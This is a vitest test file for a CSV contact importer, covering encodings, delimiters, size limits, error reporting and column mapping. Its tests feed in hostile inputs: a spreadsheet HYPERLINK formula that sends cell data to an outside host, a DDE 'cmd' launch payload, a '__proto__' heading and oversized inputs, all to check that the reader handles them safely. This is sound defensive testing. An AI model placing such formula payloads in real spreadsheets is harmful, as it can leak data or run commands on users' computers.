import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { readTable } from "../../src/contacts/read-table.ts";
import { cellsOf } from "../../src/contacts/recognise-columns.ts";
import type { Table } from "../../src/contacts/table.ts";
import { Problem } from "../../src/core/problem.ts";

const bytes = (text: string) => new TextEncoder().encode(text);
const file = (name: string) => readFileSync(new URL(`../fixtures/csv/${name}`, import.meta.url));
const listed = (table: Table) => [...table.rows];
const rowsOf = (name: string) => listed(readTable(file(name), { where: name })).map((row) => row.cells);
const columnsOf = (name: string) => [...readTable(file(name)).columns.places.keys()];

function problemOf(read: () => unknown): Problem {
  try {
    read();
  } catch (error) {
    if (error instanceof Problem) return error;
    throw error;
  }
  throw new Error("It was read.");
}

describe("a table", () => {
  it("is read by its own column names", () => {
    expect(columnsOf("own-names.csv")).toHaveLength(18);
  });
  it("is read as LinkedIn exports it, below its preamble", () => {
    expect(columnsOf("linkedin.csv")).toEqual([
      "first_name",
      "last_name",
      "linkedin",
      "email",
      "company",
      "role",
      "connected_on",
    ]);
    const table = readTable(file("linkedin.csv"));
    expect(table.columns.unused).toEqual([]);
    expect(listed(table)).toMatchObject([{ line: 5 }, { line: 6 }]);
  });
  it("is read in Windows-1252 with semicolons (N-12, N-16)", () => {
    const table = readTable(file("german-semicolon-1252.csv"));
    expect(table).toMatchObject({ encoding: "Windows-1252", delimiter: ";" });
    expect(listed(table)[0]?.cells.slice(0, 4)).toEqual([
      "Zoë",
      "Müller",
      "zoe@kern.example",
      "Kern & Söhne",
    ]);
  });
  it("is read in UTF-16 with tabs (N-11)", () => {
    expect(readTable(file("spanish-utf16-tab.csv"))).toMatchObject({ encoding: "UTF-16", delimiter: "\t" });
    expect(columnsOf("spanish-utf16-tab.csv")).toEqual([
      "first_name",
      "last_name",
      "email",
      "company",
      "country",
    ]);
  });
  it("is read with pipes and a byte-order mark (N-16)", () => {
    expect(rowsOf("n16-pipe-bom.csv")).toEqual([["A", "a@b.co"]]);
    expect(columnsOf("n16-pipe-bom.csv")).toEqual(["name", "email"]);
  });
  it("keeps formulas as the text that they are (N-1, N-2, N-3)", () => {
    expect(rowsOf("n01-n03-formulas.csv")).toEqual([
      ["Ana", "ana@x.example", '=HYPERLINK("http://e.co?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"],
      ["Bo", "bo@x.example", "\t=1+1", "＝1+1"],
    ]);
  });
  it("counts lines through cells of several lines", () => {
    const table = readTable(bytes('name,notes\nA,"x\ny\r\nz"\n\nB,b\n'));
    expect(listed(table).map((row) => row.line)).toEqual([2, 6]);
  });
  it("takes a heading called __proto__ for any other (N-14)", () => {
    expect(readTable(file("n14-proto.csv"))).toMatchObject({
      headings: ["__proto__", "constructor", "email"],
    });
    expect(Object.prototype).not.toHaveProperty("x");
  });
});

describe("a file that is no table", () => {
  it.each([
    ["n08-open-quote.csv", /line 3 a quote .* never closed/, "n08-open-quote.csv:3"],
    ["n13-nul.csv", /not a text file/, "n13-nul.csv"],
    ["n15-twice.csv", /Two columns are called "email"/, "n15-twice.csv:1"],
  ])("says what is wrong and where: %s (N-8, N-13, N-15)", (name, what, where) => {
    const problem = problemOf(() => readTable(file(name), { where: name }));
    expect(problem).toMatchObject({ code: "contacts/unreadable", where });
    expect(problem.message).toMatch(what);
    expect(problem.next).not.toBe("");
  });
  it.each([
    [
      "an open quote of 5 MB (N-8)",
      `name,email\nA,a@b.co\n"B,${"x,y\n".repeat(1_250_000)}`,
      /line 3 a quote/,
    ],
    ["200,000 columns (N-9)", Array.from({ length: 200_000 }, (_, n) => `c${n}`).join(","), /200000 columns/],
    ["a cell of 20,000 characters", `name,email\n${"A".repeat(20_000)},a@b.co`, /20000 characters/],
    ["100,001 rows", `name,email\n${"A,a@b.co\n".repeat(100_001)}`, /more than 100000 rows/],
    ["more than 20 MB", "x".repeat(20_000_001), /20 MB/],
    ["nothing", "", /empty/],
    ["no column that says who", "shoe,size\n1,2", /None of its columns/],
  ])("is refused: %s (C-36)", (_, text, what) => {
    expect(problemOf(() => readTable(bytes(text))).message).toMatch(what);
  });
  it("is not one for a million empty rows, which are no rows (N-10)", () => {
    const table = readTable(bytes(`name,email\n${"\n".repeat(1_000_000)}A,a@b.co\n`));
    expect(listed(table)).toEqual([{ line: 1_000_002, cells: ["A", "a@b.co"] }]);
  });
});

describe("a packed file", () => {
  it("is not unpacked, and it is said what to import instead (N-25, C-37)", () => {
    const zip = Uint8Array.from([0x50, 0x4b, 3, 4, ...Array.from({ length: 500 }, () => 0)]);
    const gzip = Uint8Array.from([0x1f, 0x8b, 8, 0, ...Array.from({ length: 10_000 }, (_, n) => n % 251)]);
    for (const packed of [zip, gzip]) {
      const problem = problemOf(() => readTable(packed, { where: "export.zip" }));
      expect(problem.message).toContain("packed file");
      expect(problem.next).toContain("Connections.csv");
    }
  });
});

describe("columns of one meaning", () => {
  it("stand in for each other, and a title before the name is no role", () => {
    const table = readTable(
      bytes(
        "Title,First Name,Job Title,E-mail Address,E-mail 2 Address,Business City,Home City\nDr.,Ana,Nurse,,a@b.co,,Rome",
      ),
    );
    const cell = cellsOf(table.columns, listed(table)[0]?.cells ?? []);
    expect([cell("role"), cell("email"), cell("city")]).toEqual(["Nurse", "a@b.co", "Rome"]);
    expect(table.columns.unused).toMatchObject([{ heading: "Title" }]);
  });
});

describe("--map", () => {
  it("wins over what a heading seems to mean, and leaves columns out", () => {
    const map = new Map([
      ["Contact", "email"],
      ["E-mail", "-"],
    ]);
    const { columns } = readTable(bytes("Contact,E-mail,Position\na@b.co,x,Dev"), { map });
    expect([...columns.places]).toEqual([
      ["email", 0],
      ["role", 2],
    ]);
    expect(columns.unused).toMatchObject([{ heading: "E-mail" }]);
  });
  it("says what was probably meant", () => {
    const read = (column: string, field: string) =>
      problemOf(() => readTable(bytes("name,email\n"), { map: new Map([[column, field]]) })).message;
    expect(read("emial", "email")).toContain('did you mean "email"?');
    expect(read("name", "compny")).toContain('did you mean "company"?');
  });
});
